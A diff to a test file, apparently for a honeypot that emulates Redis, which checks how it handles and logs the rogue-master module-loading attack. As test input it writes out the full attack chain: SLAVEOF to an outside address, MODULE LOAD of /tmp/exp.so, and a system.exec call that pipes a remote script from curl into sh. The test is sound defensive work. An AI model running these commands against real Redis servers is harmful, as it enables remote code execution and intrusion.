@@ -100,15 +100,19 @@ describe('Redis, with real clients', () => {
       assert.match(fs.readFileSync(path.join(home, 'dump.rdb'), 'latin1'), /^REDIS0010/)
       fs.rmSync(home, { recursive: true })
     })
-    test('a rogue master’s module runs its commands on the pretended machine', async () => {
+    test('a rogue master’s chain: no module comes, what it was told is known, what SAVE wrote is kept', async () => {
       const chain =
-        'CONFIG SET dir /tmp\nCONFIG SET dbfilename exp.so\nSLAVEOF 198.51.100.7 8886\nMODULE LOAD /tmp/exp.so\nSLAVEOF NO ONE\n'
-      assert.equal(await cli([], chain), 'OK\n'.repeat(5))
-      assert.match(await cli(['system.exec', 'id']), /uid=\d+\(redis\)/)
-      const sees = (event: Event) =>
-        event.skep.service === 'redis' && JSON.stringify(event).includes('redis-module-load')
-      await skep.eventually(sees)
-      assert.equal(await cli(['MODULE', 'UNLOAD', 'system']), 'OK\n')
+        'CONFIG SET dir /tmp\nCONFIG SET dbfilename exp.so\nSLAVEOF 198.51.100.7 8886\nMODULE LOAD /tmp/exp.so\nSLAVEOF NO ONE\nSET x "\\x7fELF"\nSAVE\n'
+      const said = (await cli([], chain)).split('\n').filter(Boolean)
+      assert.deepEqual(said.toSpliced(3, 1), Array(6).fill('OK'))
+      assert.match(said[3]!, /^ERR Error loading the extension/)
+      assert.match(await cli(['system.exec', 'curl http://198.51.100.9/m.sh | sh']), /^ERR unknown command/)
+      const has = (action: string, words: string) =>
+        skep.eventually(event => ofAction(action)(event) && JSON.stringify(event).includes(words))
+      await has('exploit', 'MODULE LOAD /tmp/exp.so')
+      await has('file-download', 'http://198.51.100.9/m.sh')
+      await has('file-upload', '/tmp/exp.so')
+      await cli(['CONFIG', 'SET', 'dir', '/var/lib/redis'])
     })
   })
 
